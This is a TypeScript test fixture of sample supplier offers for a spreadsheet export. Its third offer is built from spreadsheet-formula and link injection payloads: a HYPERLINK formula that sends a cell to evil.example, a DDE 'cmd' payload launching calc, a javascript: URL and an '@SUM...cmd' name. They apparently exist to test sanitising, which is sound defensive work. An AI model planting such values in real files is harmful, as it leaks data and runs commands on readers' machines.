/** Offers as they would be listed in a file: ordinary ones, and those that somebody made to do harm. */
import sharp from 'sharp';
import { cny } from '../../src/domain/money.ts';
import type { ListedOffer } from '../../src/files/offer-sheet.ts';
import { offer } from './made-up.ts';

/** A small picture of one colour. */
export const cellPicture = async (background = '#b45309', width = 160, height = 120) => ({
  picture: await sharp({ create: { width, height, channels: 3, background } })
    .jpeg()
    .toBuffer(),
  width,
  height,
});

/** Three offers: with tiers and a picture, with a range over variants, and with a title that wants to be a formula and a link that is none. */
export const listedOffers = async (): Promise<ListedOffer[]> => [
  {
    offer: offer('610947572360', {
      title: '304不锈钢便携折叠咖啡杯350ml',
      titleTranslated: 'Foldable coffee cup, 350 ml',
      tiers: [
        { minQuantity: 2, price: cny(1250) },
        { minQuantity: 100, price: cny(1180) },
        { minQuantity: 1000, price: cny(999) },
      ],
      unit: '个',
      match: { score: 0.9712, level: 'same' },
    }),
    picture: await cellPicture(),
  },
  {
    offer: offer('610947572361', { price: null, skuPrices: { lowest: cny(310), highest: cny(505) } }),
    picture: null,
  },
  {
    offer: offer('123456789012345678901234', {
      title: '=HYPERLINK("http://evil.example/"&A1)',
      titleTranslated: "+cmd|' /C calc'!A0\u0000\u000b",
      url: 'javascript:alert(1)',
      supplier: { ...offer('1').supplier, name: '@SUM(1+1)*cmd' },
    }),
    picture: await cellPicture('#0369a1', 60, 160),
  },
];
